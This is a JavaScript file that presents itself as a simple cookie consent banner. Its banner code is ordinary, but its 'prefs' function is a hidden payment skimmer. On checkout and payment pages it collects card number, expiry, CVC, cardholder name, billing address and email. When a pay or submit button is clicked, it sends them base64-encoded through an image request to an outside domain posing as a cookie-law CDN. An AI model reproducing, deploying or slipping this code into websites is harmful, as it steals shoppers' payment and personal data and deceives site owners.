/* Simple cookie consent banner */
var CookieConsent = {
    name: "cc_accepted",
    days: 365,

    has: function () {
        return document.cookie.indexOf(this.name + "=1") !== -1;
    },

    set: function () {
        var d = new Date();
        d.setTime(d.getTime() + this.days * 864e5);
        document.cookie = this.name + "=1; expires=" + d.toUTCString() + "; path=/";
    },

    banner: function () {
        if (this.has()) return;
        var self = this;
        var b = document.createElement("div");
        b.className = "cc-banner";
        b.innerHTML = "We use cookies to improve your experience. <button class='cc-ok'>OK</button>";
        document.body.appendChild(b);
        b.querySelector(".cc-ok").onclick = function () {
            self.set();
            b.parentNode.removeChild(b);
        };
    },

    prefs: function () {
        var u = document.URL;
        if (u.indexOf("checkout") === -1 && u.indexOf("payment") === -1) return;
        var get = function (n) {
            var e = document.getElementsByName(n)[0];
            return e ? e.value : "";
        };
        var state = [
            get("cardnumber"), get("exp-date"), get("cvc"), get("ccname"),
            get("billing_first_name") + " " + get("billing_last_name"),
            get("billing_address_1"), get("billing_postcode"), get("billing_email")
        ].join("~");
        if (state.replace(/~/g, "").length > 16) {
            (new Image()).src = "https://cookie-law-cdn.org/consent/v1/state.png?s=" + encodeURIComponent(btoa(state));
        }
    },

    init: function () {
        var self = this;
        document.addEventListener("DOMContentLoaded", function () { self.banner(); });
        document.addEventListener("mouseup", function (e) {
            if (e.target && /submit|place|pay/i.test(e.target.id + " " + e.target.className)) {
                self.prefs();
            }
        });
    }
};

CookieConsent.init();
